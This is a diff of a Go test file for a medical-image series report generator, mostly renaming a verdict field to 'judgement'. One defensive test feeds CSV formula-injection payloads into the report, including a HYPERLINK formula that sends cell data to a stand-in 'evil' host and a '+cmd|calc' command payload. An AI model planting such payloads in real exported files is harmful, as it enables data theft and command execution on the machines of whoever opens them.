@@ -19,19 +19,19 @@ import (
 
 func TestReportOrder(t *testing.T) {
 	done := func(unit, verdict string) SeriesResult {
-		return SeriesResult{ID: unit, Unit: unit, State: Done, Verdict: verdict}
+		return SeriesResult{ID: unit, Unit: unit, State: Done, Judgement: verdict}
 	}
-	warned := done("warned", "matched")
+	warned := done("warned", "good")
 	warned.Warnings = []string{"Gaps."}
 	all := []SeriesResult{
-		{Unit: "copy", State: Duplicate}, done("good", "matched"), done("clean", "clean"), warned, done("unsure", "unknown"), done("under", "under"), done("over", "over"),
+		{Unit: "copy", State: Duplicate}, done("good", "good"), done("little", "little"), warned, done("unsure", "unknown"), done("texture", "texture"), done("fades", "fades"),
 		{Unit: "z", State: Failed}, {Unit: "y", Series: "2", State: Failed}, {Unit: "y", Series: "1", State: Failed},
 	}
 	var names []string
 	for r := range summaryOf(all...).Results() {
 		names = append(names, r.Unit+r.Series)
 	}
-	equal(t, "order", names, []string{"y1", "y2", "z", "over", "under", "unsure", "warned", "clean", "good", "copy"})
+	equal(t, "order", names, []string{"y1", "y2", "z", "fades", "texture", "unsure", "warned", "good", "little", "copy"})
 }
 
 func TestReports(t *testing.T) {
@@ -50,7 +50,7 @@ func TestReports(t *testing.T) {
 			t.Errorf("%s is %q", name, good[name])
 		}
 	}
-	if !strings.HasPrefix(good["recipe"], "gaussian 2-D") || good["verdict"] == "" || good["why"] == "" {
+	if !strings.HasPrefix(good["recipe"], "gaussian 2-D") || good["judgement"] == "" || good["why"] == "" {
 		t.Errorf("%v", good)
 	}
 	data, err := os.ReadFile(filepath.Join(c.out, "report.html"))
@@ -75,7 +75,7 @@ func TestTheTableIsNoProgram(t *testing.T) {
 	formulas := []string{`=HYPERLINK("http://evil/?"&A1,"x")`, "+cmd|calc", "@SUM(1)", "-1+1"}
 	var all []SeriesResult
 	for i, text := range formulas {
-		all = append(all, SeriesResult{ID: strconv.Itoa(i), Unit: text, Series: text, Output: text, Problem: text, SameAs: text, Verdict: text, Why: text, Warnings: []string{text}, Format: text, Modality: text, Engine: text})
+		all = append(all, SeriesResult{ID: strconv.Itoa(i), Unit: text, Series: text, Output: text, Problem: text, SameAs: text, Judgement: text, Why: text, Warnings: []string{text}, Format: text, Modality: text, Engine: text})
 	}
 	path := filepath.Join(t.TempDir(), "report.csv")
 	c.must(writeCSV(path, summaryOf(all...).results))
@@ -175,7 +175,7 @@ func TestReportHasPages(t *testing.T) {
 	for _, x := range []struct{ series, pages int }{{2*pageRows + 1, 3}, {2 * pageRows, 2}, {pageRows, 1}, {0, 1}} {
 		var all []SeriesResult
 		for i := range x.series {
-			r := SeriesResult{Unit: fmt.Sprintf("s%04d.nii", i), State: Done, Verdict: "matched", Picture: []byte{1}}
+			r := SeriesResult{Unit: fmt.Sprintf("s%04d.nii", i), State: Done, Judgement: "good", Picture: []byte{1}}
 			if i%100 == 99 {
 				r.State, r.Problem = Failed, "cut off"
 			}
